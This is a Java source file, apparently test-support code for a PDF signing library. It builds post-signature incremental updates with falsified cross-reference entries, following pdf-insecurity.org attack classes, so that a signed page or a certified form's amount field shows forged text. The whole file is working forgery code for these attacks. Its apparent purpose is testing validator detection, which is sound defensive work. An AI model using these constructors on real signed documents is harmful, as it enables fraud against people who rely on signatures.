package vn.dxflow.signature;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.interactive.form.PDField;

/**
 * Updates after signing whose cross-reference sections lie (pdf-insecurity.org, "hide via a referenced object" and
 * "hide a form via a form"): an entry naming an object that is not at its offset, pointing inside another object's
 * bytes or past the end of the file, an object stream entry at another object's index, a stream whose /Length needs
 * repair. Readers that repair (PDFBox, most viewers) and readers that trust the offsets show different pages.
 */
final class CrossReferenceAttacks {

    private static final String FORGED = "BT /F1 14 Tf 72 650 Td (" + Edits.FORGED_AMOUNT_LINE + ") Tj ET";

    private CrossReferenceAttacks() {
    }

    /** The page content listed at an offset where a new object with another number holds forged text. */
    static byte[] entryNamingAnotherObject(byte[] signed, boolean asStream) {
        long content = contentNumber(signed);
        long other = size(signed) + 10;
        HandMadeRevision revision = new HandMadeRevision(signed);
        long offset = revision.raw("\n" + other + " 0 obj\n" + contentStream(FORGED) + "\nendobj\n") + 1;
        revision.redirect(content, offset);
        return (asStream ? revision.asStream() : revision).build();
    }

    /**
     * A certified form whose field appearance is listed inside the data of another (new, unreferenced) stream, where
     * a complete "N 0 obj ... endobj" with the forged amount is hidden.
     */
    static byte[] entryInsideAnotherObject(byte[] certifiedForm) {
        long appearance = amountAppearanceNumber(certifiedForm);
        long carrier = size(certifiedForm);
        String hidden = appearance + " 0 obj\n" + contentStream(FORGED) + "\nendobj\n";
        String head = "\n" + carrier + " 0 obj\n<< /Length " + (hidden.length() + 2) + " >>\nstream\n% ";
        HandMadeRevision revision = new HandMadeRevision(certifiedForm);
        long start = revision.raw(head + hidden + "\nendstream\nendobj\n");
        return revision.redirect(carrier, start + 1).redirect(appearance, start + head.length()).build();
    }

    /** A certified form whose field appearance is listed past the end of the file. */
    static byte[] entryPastTheEndOfTheFile(byte[] certifiedForm) {
        return new HandMadeRevision(certifiedForm).redirect(amountAppearanceNumber(certifiedForm),
                certifiedForm.length + 100_000L).build();
    }

    /** A new object whose /Length stops short of endstream: a reader must search for endstream to read it. */
    static byte[] lengthNeedingRepair(byte[] signed) {
        long number = size(signed);
        String note = "Annotation payload that is longer than its declared length";
        return new HandMadeRevision(signed).object(number, "<< /Length 10 >>\nstream\n" + note + "\nendstream").build();
    }

    /**
     * In a document with object streams: the page's font listed at the index of another object of the same object
     * stream. PDFBox looks objects up by number and sees no change; a reader that trusts the index takes the other
     * object.
     */
    static byte[] objectStreamIndexOfAnotherObject(byte[] signedCompressed) {
        try (PDDocument document = Loader.loadPDF(signedCompressed)) {
            COSObject font = (COSObject) document.getPage(0).getResources().getCOSObject()
                    .getCOSDictionary(COSName.FONT).getItem(COSName.getPDFName(Edits.fontName(document.getPage(0))));
            long fontNumber = font.getObjectNumber();
            long stream = -document.getDocument().getXrefTable().get(new COSObjectKey(fontNumber, 0));
            long[] header = objectStreamHeader(document, stream);
            int other = header[0] == fontNumber ? 1 : 0;
            return new HandMadeRevision(signedCompressed).asStream().compressed(fontNumber, stream, other).build();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The same document saved with object streams and a cross-reference stream, as most producers write it. */
    static byte[] compressed(byte[] pdf) {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out, CompressParameters.DEFAULT_COMPRESSION);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static long[] objectStreamHeader(PDDocument document, long number) throws IOException {
        COSStream stream = (COSStream) document.getDocument().getObjectFromPool(new COSObjectKey(number, 0)).getObject();
        int count = stream.getInt(COSName.N);
        try (InputStream in = stream.createInputStream()) {
            String[] tokens = new String(in.readNBytes(stream.getInt(COSName.FIRST)), StandardCharsets.ISO_8859_1)
                    .trim().split("\\s+");
            long[] numbers = new long[count];
            for (int i = 0; i < count; i++) {
                numbers[i] = Long.parseLong(tokens[2 * i]);
            }
            return numbers;
        }
    }

    private static String contentStream(String content) {
        return "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream";
    }

    static long contentNumber(byte[] pdf) {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            return ((COSObject) document.getPage(0).getCOSObject().getItem(COSName.CONTENTS)).getObjectNumber();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static long amountAppearanceNumber(byte[] pdf) {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            PDField amount = document.getDocumentCatalog().getAcroForm().getField("soTien");
            COSObject appearance = (COSObject) amount.getWidgets().get(0).getAppearance().getCOSObject()
                    .getItem(COSName.N);
            return appearance.getObjectNumber();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static long size(byte[] pdf) {
        return Long.parseLong(HandMadeRevision.last(pdf, "/Size (\\d+)"));
    }
}
